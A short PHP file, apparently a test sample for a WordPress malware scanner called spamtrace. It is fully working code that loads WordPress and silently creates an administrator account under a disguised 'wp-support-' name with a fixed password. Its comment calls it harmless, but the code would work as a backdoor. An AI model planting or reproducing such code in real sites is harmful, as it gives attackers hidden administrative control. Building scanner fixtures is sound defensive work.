<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
// Boots WordPress by itself and adds a hidden administrator account.
require __DIR__ . '/wp-load.php';
$login = 'wp-support-' . substr(md5(__FILE__), 0, 6);
if (!username_exists($login)) {
    $id = wp_create_user($login, 'Chang3me!', $login . '@example.invalid');
    $account = new WP_User($id);
    $account->set_role('administrator');
}
echo 'done';
